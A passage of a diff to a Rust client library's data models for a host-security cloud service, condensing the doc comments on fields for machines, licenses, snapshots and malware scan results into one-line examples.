     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
+    /// `Uuid`; example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
     pub uuid: String,
 
-    /// `Places`: a list of [`Place`] objects.
+    /// `Places`
     pub places: Vec<Place>,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"user"`
+    /// `UserName`; example: `"user"`
     pub user_name: String,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"1.2.2.3"`
+    /// `SrcIp`; example: `"1.2.2.3"`
     pub src_ip: String,
 
-    /// `IsGlobal`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsGlobal`; example: `false`
     pub is_global: bool,
 
-    /// `CreateTime`: a date and time, as the service writes it.
-    ///
-    /// Example: `"2020-10-01 00:00:01"`
+    /// `CreateTime`, a date and time as the service writes it; example: `"2020-10-01 00:00:01"`
     pub create_time: String,
 
-    /// `ModifyTime`: a date and time, as the service writes it.
-    ///
-    /// Example: `"2020-10-01 00:00:02"`
+    /// `ModifyTime`, a date and time as the service writes it; example: `"2020-10-01 00:00:02"`
     pub modify_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"stone"`
+    /// `MachineName`; example: `"stone"`
     pub machine_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.20.30.40"`
+    /// `HostIp`; example: `"10.20.30.40"`
     pub host_ip: String,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2020-10-01 00:00:01"`
+    /// `StartTime`; example: `"2020-10-01 00:00:01"`
     pub start_time: String,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"2020-10-01 00:00:02"`
+    /// `EndTime`; example: `"2020-10-01 00:00:02"`
     pub end_time: String,
 }
 
@@ -7395,176 +4821,112 @@ pub struct LoginWhiteLists {
 /// Returned in the output of [`DescribeMachineList`](super::DescribeMachineList) and [`DescribeMachines`](super::DescribeMachines).
 #[tc_model]
 pub struct Machine {
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"stone"`
+    /// `MachineName`; example: `"stone"`
     pub machine_name: String,
 
-    /// `MachineOs`: a string.
-    ///
-    /// Example: `"centos"`
+    /// `MachineOs`; example: `"centos"`
     pub machine_os: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `MachineStatus`; example: `"ONLINE"`
     pub machine_status: String,
 
-    /// `AgentStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `AgentStatus`; example: `"ONLINE"`
     pub agent_status: Option<String>,
 
-    /// `InstanceStatus`: a string.
-    ///
-    /// Example: `"RUNNING"`
+    /// `InstanceStatus`; example: `"RUNNING"`
     pub instance_status: Option<String>,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
+    /// `Uuid`; example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
+    /// `Quuid`; example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
     pub quuid: String,
 
-    /// `VulNum`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `VulNum`; example: `2`
     pub vul_num: i64,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.2"`
+    /// `MachineIp`; example: `"10.0.0.2"`
     pub machine_ip: String,
 
-    /// `IsProVersion`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsProVersion`; example: `false`
     pub is_pro_version: bool,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"114.11.12.13"`
+    /// `MachineWanIp`; example: `"114.11.12.13"`
     pub machine_wan_ip: String,
 
-    /// `PayMode`: a string.
-    ///
-    /// Example: `"PREPAY"`
+    /// `PayMode`; example: `"PREPAY"`
     pub pay_mode: String,
 
-    /// `MalwareNum`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `MalwareNum`; example: `1`
     pub malware_num: i64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
+    /// `Tag`
     pub tag: Vec<MachineTag>,
 
-    /// `BaselineNum`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `BaselineNum`; example: `2`
     pub baseline_num: i64,
 
-    /// `CyberAttackNum`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `CyberAttackNum`; example: `2`
     pub cyber_attack_num: i64,
 
-    /// `SecurityStatus`: a string.
-    ///
-    /// Example: `"RISK"`
+    /// `SecurityStatus`; example: `"RISK"`
     pub security_status: String,
 
-    /// `InvasionNum`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `InvasionNum`; example: `1`
     pub invasion_num: i64,
 
-    /// `RegionInfo`: a [`RegionInfo`].
+    /// `RegionInfo`
     pub region_info: RegionInfo,
 
-    /// `InstanceState`: a string.
-    ///
-    /// Example: `"TERMINATED_PRO_VERSION"`
+    /// `InstanceState`; example: `"TERMINATED_PRO_VERSION"`
     pub instance_state: String,
 
-    /// `LicenseStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `LicenseStatus`; example: `1`
     pub license_status: u64,
 
-    /// `ProjectId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: i64,
 
-    /// `HasAssetScan`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HasAssetScan`; example: `1`
     pub has_asset_scan: u64,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: String,
 
-    /// `KernelVersion`: a string.
-    ///
-    /// Example: `"3.10.0-1127.19.1.el7.x86_64"`
+    /// `KernelVersion`; example: `"3.10.0-1127.19.1.el7.x86_64"`
     pub kernel_version: String,
 
-    /// `ProtectType`: a string.
-    ///
-    /// Example: `"BASIC_VERSION"`
+    /// `ProtectType`; example: `"BASIC_VERSION"`
     pub protect_type: String,
 
-    /// `CloudTags`: a list of [`Tags`] objects.
+    /// `CloudTags`
     pub cloud_tags: Vec<Tags>,
 
-    /// `IsAddedOnTheFifteen`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsAddedOnTheFifteen`; example: `1`
     pub is_added_on_the_fifteen: u64,
 
-    /// `IpList`: a string.
-    ///
-    /// Example: `"1.1.1.1,2.2.2.2"`
+    /// `IpList`; example: `"1.1.1.1,2.2.2.2"`
     pub ip_list: String,
 
-    /// `VpcId`: a string.
-    ///
-    /// Example: `"vpc-sda"`
+    /// `VpcId`; example: `"vpc-sda"`
     pub vpc_id: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"ins-sad143"`
+    /// `InstanceId`; example: `"ins-sad143"`
     pub instance_id: String,
 
-    /// `Remark`: a string.
-    ///
-    /// Example: `"remark"`
+    /// `Remark`; example: `"remark"`
     pub remark: String,
 
-    /// `AgentVersion`: a string.
-    ///
-    /// Example: `"2.0.1.1"`
+    /// `AgentVersion`; example: `"2.0.1.1"`
     pub agent_version: Option<String>,
 
-    /// `AppId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `260146618`
+    /// `AppId`; example: `260146618`
     pub app_id: Option<u64>,
 
-    /// `CSIPProtectType`: a string.
-    ///
-    /// Example: `"BASIC_VERSION"`
+    /// `CSIPProtectType`; example: `"BASIC_VERSION"`
     #[tc(rename = "CSIPProtectType")]
     pub csip_protect_type: Option<String>,
 }
@@ -7574,39 +4936,25 @@ pub struct Machine {
 /// Returned in the output of [`DescribeMachineClearHistory`](super::DescribeMachineClearHistory).
 #[tc_model]
 pub struct MachineClearHistory {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"ins-vdfy7df"`
+    /// `InstanceId`; example: `"ins-vdfy7df"`
     pub instance_id: String,
 
-    /// `InstanceName`: a string.
-    ///
-    /// Example: `"instanceName"`
+    /// `InstanceName`; example: `"instanceName"`
     pub instance_name: String,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"publicIp"`
+    /// `PublicIp`; example: `"publicIp"`
     pub public_ip: String,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `PrivateIp`; example: `"10.0.0.1"`
     pub private_ip: String,
 
-    /// `AgentLastOfflineTime`: a string.
-    ///
-    /// Example: `"2020-03-28 17:33:04"`
+    /// `AgentLastOfflineTime`; example: `"2020-03-28 17:33:04"`
     pub agent_last_offline_time: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2019-03-28 17:33:04"`
+    /// `CreateTime`; example: `"2019-03-28 17:33:04"`
     pub create_time: String,
 }
 
@@ -7615,37 +4963,25 @@ pub struct MachineClearHistory {
 /// Returned in the output of [`DescribeAssetAppList`](super::DescribeAssetAppList), [`DescribeAssetCoreModuleList`](super::DescribeAssetCoreModuleList), [`DescribeAssetDatabaseList`](super::DescribeAssetDatabaseList), [`DescribeAssetEnvList`](super::DescribeAssetEnvList), [`DescribeAssetInitServiceList`](super::DescribeAssetInitServiceList), [`DescribeAssetJarList`](super::DescribeAssetJarList) and 45 more.
 #[tc_model]
 pub struct MachineExtraInfo {
-    /// `WanIP`: a string.
-    ///
-    /// Example: `"12.*.*.1"`
+    /// `WanIP`; example: `"12.*.*.1"`
     #[tc(rename = "WanIP")]
     pub wan_ip: String,
 
-    /// `PrivateIP`: a string.
-    ///
-    /// Example: `"192.*.*.1"`
+    /// `PrivateIP`; example: `"192.*.*.1"`
     #[tc(rename = "PrivateIP")]
     pub private_ip: String,
 
-    /// `NetworkType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `NetworkType`; example: `1`
     pub network_type: i64,
 
-    /// `NetworkName`: a string.
-    ///
-    /// Example: `"vpc-****hl6w"`
+    /// `NetworkName`; example: `"vpc-****hl6w"`
     pub network_name: String,
 
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"ins-***kggc"`
+    /// `InstanceID`; example: `"ins-***kggc"`
     #[tc(rename = "InstanceID")]
     pub instance_id: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"VM-business"`
+    /// `HostName`; example: `"VM-business"`
     pub host_name: String,
 }
 
@@ -7654,22 +4990,16 @@ pub struct MachineExtraInfo {
 /// Returned in the output of [`DescribeMachineFileTamperRules`](super::DescribeMachineFileTamperRules).
 #[tc_model]
 pub struct MachineFileTamperRule {
-    /// `Name`: a string.
-    ///
-    /// Example: `"禁止访问"`
+    /// `Name`; example: `"禁止访问"`
     pub name: String,
 
-    /// `RuleCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleCategory`; example: `1`
     pub rule_category: u64,
 
-    /// `Rule`: a list of [`FileTamperRule`] objects.
+    /// `Rule`
     pub rule: Vec<FileTamperRule>,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `11`
+    /// `Id`; example: `11`
     pub id: u64,
 }
 
@@ -7678,54 +5008,34 @@ pub struct MachineFileTamperRule {
 /// Returned in the output of [`DescribeMachineLicenseDetail`](super::DescribeMachineLicenseDetail).
 #[tc_model]
 pub struct MachineLicenseDetail {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `PayMode`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PayMode`; example: `1`
     pub pay_mode: u64,
 
-    /// `ResourceId`: a string.
-    ///
-    /// Example: `"testid"`
+    /// `ResourceId`; example: `"testid"`
     pub resource_id: String,
 
-    /// `LicenseType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `LicenseType`; example: `0`
     pub license_type: u64,
 
-    /// `SourceType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SourceType`; example: `1`
     pub source_type: u64,
 
-    /// `InquireKey`: a string.
-    ///
-    /// Example: `"yunjing-vip"`
+    /// `InquireKey`; example: `"yunjing-vip"`
     pub inquire_key: String,
 
-    /// `AutoRenewFlag`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AutoRenewFlag`; example: `1`
     pub auto_renew_flag: u64,
 
-    /// `Deadline`: a string.
-    ///
-    /// Example: `"2022-01-01 00:00:00"`
+    /// `Deadline`; example: `"2022-01-01 00:00:00"`
     pub deadline: String,
 
-    /// `BuyTime`: a string.
-    ///
-    /// Example: `"2022-01-01 00:00:00"`
+    /// `BuyTime`; example: `"2022-01-01 00:00:00"`
     pub buy_time: String,
 
-    /// `LicenseCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `LicenseCnt`; example: `1`
     pub license_cnt: u64,
 }
 
@@ -7734,90 +5044,58 @@ pub struct MachineLicenseDetail {
 /// Returned in the output of [`DescribeMachinesSimple`](super::DescribeMachinesSimple).
 #[tc_model]
 pub struct MachineSimple {
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"host1"`
+    /// `MachineName`; example: `"host1"`
     pub machine_name: String,
 
-    /// `MachineOs`: a string.
-    ///
-    /// Example: `"centos"`
+    /// `MachineOs`; example: `"centos"`
     pub machine_os: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.2"`
+    /// `MachineIp`; example: `"10.0.0.2"`
     pub machine_ip: String,
 
-    /// `IsProVersion`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsProVersion`; example: `false`
     pub is_pro_version: bool,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `PayMode`: a string.
-    ///
-    /// Example: `"PREPAY"`
+    /// `PayMode`; example: `"PREPAY"`
     pub pay_mode: String,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `RegionInfo`: a [`RegionInfo`].
+    /// `RegionInfo`
     pub region_info: RegionInfo,
 
-    /// `InstanceState`: a string.
-    ///
-    /// Example: `"RUNNING：表示运行中"`
+    /// `InstanceState`; example: `"RUNNING：表示运行中"`
     pub instance_state: String,
 
-    /// `ProjectId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: i64,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: String,
 
-    /// `KernelVersion`: a string.
-    ///
-    /// Example: `"3.10.0-1127.19.1.el7.x86_64"`
+    /// `KernelVersion`; example: `"3.10.0-1127.19.1.el7.x86_64"`
     pub kernel_version: String,
 
-    /// `ProtectType`: a string.
-    ///
-    /// Example: `"BASIC_VERSION"`
+    /// `ProtectType`; example: `"BASIC_VERSION"`
     pub protect_type: String,
 
-    /// `LicenseOrder`: a [`LicenseOrder`].
+    /// `LicenseOrder`
     pub license_order: Option<LicenseOrder>,
 
-    /// `CloudTags`: a list of [`Tags`] objects.
-    ///
-    /// Example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
+    /// `CloudTags`; example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
     pub cloud_tags: Vec<Tags>,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"ins-ddsds**"`
+    /// `InstanceId`; example: `"ins-ddsds**"`
     pub instance_id: String,
 }
 
@@ -7826,49 +5104,31 @@ pub struct MachineSimple {
 /// Returned in the output of [`DescribeMachineSnapshot`](super::DescribeMachineSnapshot).
 #[tc_model]
 pub struct MachineSnapshotInfo {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"sschkcfhsu"`
+    /// `Quuid`; example: `"sschkcfhsu"`
     pub quuid: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"sjdsjlkf"`
+    /// `HostName`; example: `"sjdsjlkf"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"145.12.3.12"`
+    /// `HostIp`; example: `"145.12.3.12"`
     pub host_ip: String,
 
-    /// `SnapshotName`: a string.
-    ///
-    /// Example: `"2021-03-01备份"`
+    /// `SnapshotName`; example: `"2021-03-01备份"`
     pub snapshot_name: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-11 18:15:17"`
+    /// `CreateTime`; example: `"2021-03-11 18:15:17"`
     pub create_time: String,
 
-    /// `DiskId`: a string.
-    ///
-    /// Example: `"adhakdh"`
+    /// `DiskId`; example: `"adhakdh"`
     pub disk_id: String,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"sdjkdh"`
+    /// `InstanceId`; example: `"sdjkdh"`
     pub instance_id: String,
 
-    /// `RegionId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RegionId`; example: `1`
     pub region_id: u64,
 
-    /// `SnapshotId`: a string.
-    ///
-    /// Example: `"ajdajd"`
+    /// `SnapshotId`; example: `"ajdajd"`
     pub snapshot_id: String,
 }
 
@@ -7877,19 +5137,13 @@ pub struct MachineSnapshotInfo {
 /// Returned in the output of [`DescribeAssetAppList`](super::DescribeAssetAppList), [`DescribeAssetDatabaseList`](super::DescribeAssetDatabaseList), [`DescribeAssetMachineList`](super::DescribeAssetMachineList), [`DescribeAssetPortInfoList`](super::DescribeAssetPortInfoList), [`DescribeAssetProcessInfoList`](super::DescribeAssetProcessInfoList), [`DescribeAssetWebAppList`](super::DescribeAssetWebAppList) and 10 more.
 #[tc_model]
 pub struct MachineTag {
-    /// `Rid`: a signed 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `Rid`; example: `10`
     pub rid: i64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"role1"`
+    /// `Name`; example: `"role1"`
     pub name: String,
 
-    /// `TagId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1010`
+    /// `TagId`; example: `1010`
     pub tag_id: u64,
 }
 
@@ -7898,106 +5152,68 @@ pub struct MachineTag {
 /// Returned in the output of [`DescribeMalWareList`](super::DescribeMalWareList).
 #[tc_model]
 pub struct MalWareList {
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `FilePath`: a string.
-    ///
-    /// Example: `"/tmp/test"`
+    /// `FilePath`; example: `"/tmp/test"`
     pub file_path: String,
 
-    /// `VirusName`: a string.
-    ///
-    /// Example: `"Linux.Trojan.Downloader.Snkl"`
+    /// `VirusName`; example: `"Linux.Trojan.Downloader.Snkl"`
     pub virus_name: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `4`
+    /// `Status`; example: `4`
     pub status: u64,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"test-agent"`
+    /// `Alias`; example: `"test-agent"`
     pub alias: String,
 
-    /// `Tags`: a list of strings.
+    /// `Tags`
     pub tags: Vec<String>,
 
-    /// `FileCreateTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:22"`
+    /// `FileCreateTime`; example: `"2024-10-30 09:12:22"`
     pub file_create_time: String,
 
-    /// `FileModifierTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:22"`
+    /// `FileModifierTime`; example: `"2024-10-30 09:12:22"`
     pub file_modifier_time: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:22"`
+    /// `CreateTime`; example: `"2024-10-30 09:12:22"`
     pub create_time: String,
 
-    /// `LatestScanTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:22"`
+    /// `LatestScanTime`; example: `"2024-10-30 09:12:22"`
     pub latest_scan_time: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `CheckPlatform`: a string.
-    ///
-    /// Example: `"1"`
+    /// `CheckPlatform`; example: `"1"`
     pub check_platform: String,
 
-    /// `ProcessExists`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProcessExists`; example: `1`
     pub process_exists: u64,
 
-    /// `FileExists`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FileExists`; example: `1`
     pub file_exists: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `MD5`: a string.
-    ///
-    /// Example: `"708cae4cf814c3deda4208da228fad4e"`
+    /// `MD5`; example: `"708cae4cf814c3deda4208da228fad4e"`
     #[tc(rename = "MD5")]
     pub md5: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `DoClean`: a boolean.
-    ///
-    /// Example: `true`
+    /// `DoClean`; example: `true`
     pub do_clean: Option<bool>,
 
-    /// `FirstDetectionMethod`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FirstDetectionMethod`; example: `1`
     pub first_detection_method: Option<u64>,
 }
 
@@ -8006,29 +5222,19 @@ pub struct MalWareList {
 /// Returned in the output of [`DescribeMaliciousRequestWhiteList`](super::DescribeMaliciousRequestWhiteList).
 #[tc_model]
 pub struct MaliciousRequestWhiteListInfo {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Domain`: a string.
-    ///
-    /// Example: `"www.tapd.com"`
+    /// `Domain`; example: `"www.tapd.com"`
     pub domain: String,
 
-    /// `Mark`: a string.
-    ///
-    /// Example: `"备注1"`
+    /// `Mark`; example: `"备注1"`
     pub mark: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-02-08 14:46:25"`
+    /// `CreateTime`; example: `"2021-02-08 14:46:25"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-02-08 14:46:25"`
+    /// `ModifyTime`; example: `"2021-02-08 14:46:25"`
     pub modify_time: String,
 }
 
@@ -8037,174 +5243,108 @@ pub struct MaliciousRequestWhiteListInfo {
 /// Returned in the output of [`DescribeMalwareInfo`](super::DescribeMalwareInfo).
 #[tc_model]
 pub struct MalwareInfo {
-    /// `VirusName`: a string.
-    ///
-    /// Example: `"virusName"`
+    /// `VirusName`; example: `"virusName"`
     pub virus_name: String,
 
-    /// `FileSize`: a signed 64-bit integer.
-    ///
-    /// Example: `1024`
+    /// `FileSize`; example: `1024`
     pub file_size: i64,
 
-    /// `MD5`: a string.
-    ///
-    /// Example: `"gfahetagrfwafewr32tgr"`
+    /// `MD5`; example: `"gfahetagrfwafewr32tgr"`
     #[tc(rename = "MD5")]
     pub md5: String,
 
-    /// `FilePath`: a string.
-    ///
-    /// Example: `"/usr/local/services/tnginx_1_0_0-1.0/lib/luajit/lib"`
+    /// `FilePath`; example: `"/usr/local/services/tnginx_1_0_0-1.0/lib/luajit/lib"`
     pub file_path: String,
 
-    /// `FileCreateTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `FileCreateTime`; example: `"2021-04-26 15:19:04"`
     pub file_create_time: String,
 
-    /// `FileModifierTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `FileModifierTime`; example: `"2021-04-26 15:19:04"`
     pub file_modifier_time: String,
 
-    /// `HarmDescribe`: a string.
-    ///
-    /// Example: `"这是描述"`
+    /// `HarmDescribe`; example: `"这是描述"`
     pub harm_describe: String,
 
-    /// `SuggestScheme`: a string.
-    ///
-    /// Example: `"建议方案"`
+    /// `SuggestScheme`; example: `"建议方案"`
     pub suggest_scheme: String,
 
-    /// `ServersName`: a string.
-    ///
-    /// Example: `"服务器名称"`
+    /// `ServersName`; example: `"服务器名称"`
     pub servers_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"15.2.3.442"`
+    /// `HostIp`; example: `"15.2.3.442"`
     pub host_ip: String,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"进程名称"`
+    /// `ProcessName`; example: `"进程名称"`
     pub process_name: String,
 
-    /// `ProcessID`: a string.
-    ///
-    /// Example: `"pid"`
+    /// `ProcessID`; example: `"pid"`
     #[tc(rename = "ProcessID")]
     pub process_id: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["tewt","wekk"]`
+    /// `Tags`; example: `["tewt","wekk"]`
     pub tags: Vec<String>,
 
-    /// `Breadth`: a string.
-    ///
-    /// Example: `"Breadth"`
+    /// `Breadth`; example: `"Breadth"`
     pub breadth: String,
 
-    /// `Heat`: a string.
-    ///
-    /// Example: `"Heat"`
+    /// `Heat`; example: `"Heat"`
     pub heat: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `FileName`: a string.
-    ///
-    /// Example: `"FileName"`
+    /// `FileName`; example: `"FileName"`
     pub file_name: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `CreateTime`; example: `"2021-04-26 15:19:04"`
     pub create_time: String,
 
-    /// `LatestScanTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `LatestScanTime`; example: `"2021-04-26 15:19:04"`
     pub latest_scan_time: String,
 
-    /// `Reference`: a string.
-    ///
-    /// Example: `"http://www.vxjump.net/files/virus_analysis/virut%20botnet%20anal"`
+    /// `Reference`; example: `"http://www.vxjump.net/files/virus_analysis/virut%20botnet%20anal"`
     pub reference: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"15.2.3.442"`
+    /// `MachineWanIp`; example: `"15.2.3.442"`
     pub machine_wan_ip: String,
 
-    /// `PsTree`: a string.
-    ///
-    /// Example: `"[{\"pid\":\"13\"}]"`
+    /// `PsTree`; example: `"[{\"pid\":\"13\"}]"`
     pub ps_tree: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"OFFLINE"`
+    /// `MachineStatus`; example: `"OFFLINE"`
     pub machine_status: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `CheckPlatform`: a string.
-    ///
-    /// Example: `"1"`
+    /// `CheckPlatform`; example: `"1"`
     pub check_platform: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `ModifyTime`; example: `"2021-04-26 15:19:04"`
     pub modify_time: String,
 
-    /// `StrFileAccessTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `StrFileAccessTime`; example: `"2021-04-26 15:19:04"`
     pub str_file_access_time: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `References`: a list of strings.
-    ///
-    /// Example: `["https://tencent.com"]`
+    /// `References`; example: `["https://tencent.com"]`
     pub references: Vec<String>,
 
-    /// `FileExists`: a boolean.
-    ///
-    /// Example: `true`
+    /// `FileExists`; example: `true`
     pub file_exists: Option<bool>,
 
-    /// `ProcessExists`: a boolean.
-    ///
-    /// Example: `true`
+    /// `ProcessExists`; example: `true`
     pub process_exists: Option<bool>,
 
-    /// `FirstDetectionMethod`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FirstDetectionMethod`; example: `0`
     pub first_detection_method: Option<u64>,
 }
 
@@ -8213,24 +5353,16 @@ pub struct MalwareInfo {
 /// Returned in the output of [`DescribeMalwareRiskWarning`](super::DescribeMalwareRiskWarning).
 #[tc_model]
 pub struct MalwareRisk {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineIp`; example: `"1.1.1.1"`
     pub machine_ip: String,
 
